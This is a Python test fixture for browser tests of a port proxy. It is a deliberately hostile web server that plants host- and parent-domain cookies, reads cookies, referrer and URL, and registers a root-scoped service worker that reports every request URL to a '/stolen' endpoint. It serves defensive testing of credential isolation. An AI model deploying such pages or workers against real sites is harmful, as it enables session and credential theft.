"""A hostile web service for the browser tests of the port proxy; runs inside a sandbox
(template `base`). It tries every way a page has to learn the credential the browser came
with, and records what it gets.

usage: python3 port_spy.py PORT LOG

- every request: one JSON line appended to LOG (method, path with query, all headers)
- GET / (any query): the attack page. It sets cookies meant for the whole host (`Path=/`,
  `Domain=` its host's parent), and its script reads `location`, `document.referrer` and
  `document.cookie`, loads a subresource, calls an API path of the same origin, registers a
  service worker with scope `/`, loads `?probe=URL` (a listener of the test outside the
  sandbox that sees which cookies the browser sends to another path of the host), then
  writes what it learned as JSON into <pre id="result"> and sends it to /report
- GET /sw.js: a service worker that would report every URL it sees, sent with
  `Service-Worker-Allowed: /`
- GET /hold.png: answered only once the page has reported (or after 30 s), so the page's
  load event, which headless Chromium's `--dump-dom` waits for, follows the script's end
- anything else: 200 and a short body

Binds 127.0.0.1:PORT.
"""

import json
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

LOG = sys.argv[2]

PAGE = """<!doctype html>
<html><head><meta charset="utf-8"><title>spy</title></head><body>
<img id="pixel" src="pixel.png">
<img id="hold" src="hold.png">
<pre id="result">pending</pre>
<script>
(async () => {
  const out = {
    href: location.href,
    search: location.search,
    referrer: document.referrer,
    cookie: document.cookie,
  };
  const probe = new URLSearchParams(location.search).get("probe");
  try {
    const r = await fetch("/v1/sandboxes", { credentials: "include" });
    out.api_status = r.status;
  } catch (e) {
    out.api_status = "error: " + e;
  }
  try {
    await fetch("sub.txt");
  } catch (e) {}
  if (navigator.serviceWorker) {
    out.sw = await navigator.serviceWorker
      .register("sw.js", { scope: "/" })
      .then((reg) => "registered: " + reg.scope, (e) => "failed: " + e);
  } else {
    out.sw = "failed: no service worker API (not a secure context)";
  }
  if (probe) {
    out.probe = await new Promise((resolve) => {
      const img = new Image();
      img.onload = () => resolve("loaded");
      img.onerror = () => resolve("loaded (not an image)");
      img.src = probe;
    });
  }
  document.getElementById("result").textContent = JSON.stringify(out);
  try {
    await fetch("report?d=" + encodeURIComponent(JSON.stringify(out)));
  } catch (e) {}
})();
</script>
</body></html>
"""

REPORTS = threading.Condition()
REPORTED = [0]

WORKER = """
self.addEventListener("fetch", (e) => {
  fetch("/stolen?u=" + encodeURIComponent(e.request.url));
});
"""


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args):
        pass

    def record(self):
        entry = {
            "method": self.command,
            "path": self.path,
            "headers": [[k.lower(), v] for k, v in self.headers.items()],
        }
        with open(LOG, "a", encoding="utf-8") as f:
            f.write(json.dumps(entry) + "\n")

    def answer(self, content_type, data, extra=()):
        data = data.encode()
        self.send_response(200)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(data)))
        self.send_header("Cache-Control", "no-store")
        for name, value in extra:
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(data)

    def do_GET(self):
        self.record()
        path = self.path.split("?", 1)[0]
        if path == "/":
            host = self.headers.get("X-Forwarded-Host", "").split(":")[0]
            parent = host.split(".", 1)[1] if "." in host else host
            self.answer(
                "text/html; charset=utf-8",
                PAGE,
                [
                    ("Set-Cookie", "planted=1; Path=/"),
                    ("Set-Cookie", f"planted_domain=1; Path=/; Domain={parent}"),
                    ("Set-Cookie", "hutch_token=planted-by-the-sandbox; Path=/"),
                    ("Service-Worker-Allowed", "/"),
                    ("Referrer-Policy", "unsafe-url"),
                ],
            )
        elif path == "/sw.js":
            self.answer(
                "application/javascript",
                WORKER,
                [("Service-Worker-Allowed", "/")],
            )
        elif path == "/hold.png":
            with REPORTS:
                seen = REPORTED[0]
                REPORTS.wait_for(lambda: REPORTED[0] > seen, timeout=30)
            self.answer("text/plain", "held\n")
        elif path == "/report":
            with REPORTS:
                REPORTED[0] += 1
                REPORTS.notify_all()
            self.answer("text/plain", "ok\n")
        else:
            self.answer("text/plain", "ok\n")

    def do_POST(self):
        self.record()
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.answer("text/plain", "ok\n")


ThreadingHTTPServer.daemon_threads = True
ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Handler).serve_forever()
